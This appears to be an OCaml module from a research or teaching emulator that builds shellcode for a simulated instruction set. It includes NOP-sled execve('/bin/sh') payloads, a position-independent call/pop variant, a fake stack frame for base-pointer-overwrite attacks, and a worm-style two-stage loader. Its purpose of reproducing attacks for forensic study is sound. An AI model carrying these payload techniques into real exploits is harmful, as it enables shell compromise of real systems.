open Isa.Asm

(* Payloads are assembled at the address where they will land ([base]), so
   embedded absolute references (the "/bin/sh" string, the second-stage
   buffer) resolve correctly — exactly how real shellcode is prepared once
   the injection address is known. Payload bytes must avoid 0x0A: the
   victims' overflow bugs are gets()-style copies terminated by newline. *)

let assemble_at ~base items = (Isa.Asm.assemble ~origin:base items).code

let nops n = List.init n (fun _ -> I Isa.Insn.Nop)

(* The ISA has no absolute-immediate label form, so absolute references
   inside a payload are computed with a two-pass closure: assemble once with
   dummy addresses to learn the layout, then assemble for real. *)
let with_layout ~base build =
  let pass items = (Isa.Asm.assemble ~origin:base items).code in
  let probe = Isa.Asm.assemble ~origin:base (build (fun _ -> 0)) in
  let resolve l = Isa.Asm.label probe l in
  pass (build resolve)

(* execve("/bin/sh") followed by a clean exit; the classic spawn-a-shell
   payload. *)
let execve_bin_sh ?(sled = 16) ~base () =
  with_layout ~base (fun lbl ->
      nops sled
      @ [
          I (Mov_ri (EBX, lbl "shstr"));
          I (Mov_ri (EAX, 11));
          I (Int 0x80);
          I (Mov_ri (EAX, 1));
          I (Mov_ri (EBX, 0));
          I (Int 0x80);
          L "shstr";
          Bytes "/bin/sh\000";
        ])

(* Position-independent variant, for attacks that do not know where their
   payload will land (Samba brute force): the call/pop trick recovers the
   runtime address, exactly as real-world PIC shellcode does. *)
let execve_bin_sh_pic ?(sled = 16) () =
  (* Layout is address-independent, so assemble at 0 and measure the
     distance from the pop to the embedded string. *)
  with_layout ~base:0 (fun lbl ->
      nops sled
      @ [
          I (Call (Lbl "next"));
          L "next";
          I (Pop ESI);
          I (Lea (EBX, ESI, lbl "shstr" - lbl "next"));
          I (Mov_ri (EAX, 11));
          I (Int 0x80);
          I (Mov_ri (EAX, 1));
          I (Mov_ri (EBX, 0));
          I (Int 0x80);
          L "shstr";
          Bytes "/bin/sh\000";
        ])

(* The paper's forensic demonstration payload: exit(0) so the compromised
   program terminates gracefully instead of segfaulting (§6.1.3). *)
let exit0 =
  assemble_at ~base:0
    [ I (Mov_ri (EBX, 0)); I (Mov_ri (EAX, 1)); I (Int 0x80) ]

(* Fake stack frame (old %ebp, return address) followed by shellcode — the
   layout the base-pointer-overwrite attack pivots the stack into. *)
let fake_frame ~base =
  let code_at = base + 8 in
  let word v = String.init 4 (fun i -> Char.chr ((v lsr (8 * i)) land 0xFF)) in
  word base ^ word code_at ^ execve_bin_sh ~sled:4 ~base:code_at ()

(* 7350wurm-style two-stage payload: stage one signals the attacker over
   the network ("OK!!"), pulls a second stage and jumps to it. *)
let two_stage_stage1 ?(sled = 16) ~base () =
  with_layout ~base (fun lbl ->
      nops sled
      @ [
          (* write(1, "OK!!", 4) *)
          I (Mov_ri (EAX, 4));
          I (Mov_ri (EBX, 1));
          I (Mov_ri (ECX, lbl "magic"));
          I (Mov_ri (EDX, 4));
          I (Int 0x80);
          (* read(0, stage2, 512) *)
          I (Mov_ri (EAX, 3));
          I (Mov_ri (EBX, 0));
          I (Mov_ri (ECX, lbl "stage2"));
          I (Mov_ri (EDX, 512));
          I (Int 0x80);
          I (Mov_ri (ESI, lbl "stage2"));
          I (Jmp_r ESI);
          L "magic";
          Bytes "OK!!";
          L "stage2";
        ])

(* Stage two: spawn the shell, then run a minimal interactive loop so a
   honeypot (Sebek) has keystrokes to log; 'q' quits. *)
let interactive_shell ~base =
  with_layout ~base (fun lbl ->
      [
        I (Mov_ri (EBX, lbl "shstr"));
        I (Mov_ri (EAX, 11));
        I (Int 0x80);
        L "loop";
        (* write(1, "sh$ ", 4) *)
        I (Mov_ri (EAX, 4));
        I (Mov_ri (EBX, 1));
        I (Mov_ri (ECX, lbl "prompt"));
        I (Mov_ri (EDX, 4));
        I (Int 0x80);
        (* read(0, cmd, 64) *)
        I (Mov_ri (EAX, 3));
        I (Mov_ri (EBX, 0));
        I (Mov_ri (ECX, lbl "cmd"));
        I (Mov_ri (EDX, 64));
        I (Int 0x80);
        I (Cmp_ri (EAX, 0));
        I (Jz (Lbl "quit"));
        I (Mov_ri (ESI, lbl "cmd"));
        I (Loadb (EAX, ESI, 0));
        I (Cmp_ri (EAX, Char.code 'q'));
        I (Jz (Lbl "quit"));
        I (Jmp (Lbl "loop"));
        L "quit";
        I (Mov_ri (EAX, 1));
        I (Mov_ri (EBX, 0));
        I (Int 0x80);
        L "shstr";
        Bytes "/bin/sh\000";
        L "prompt";
        Bytes "sh$ ";
        L "cmd";
        Space 64;
      ])

let word32 v = String.init 4 (fun i -> Char.chr ((v lsr (8 * i)) land 0xFF))

let contains_newline s = String.exists (fun c -> c = '\n') s
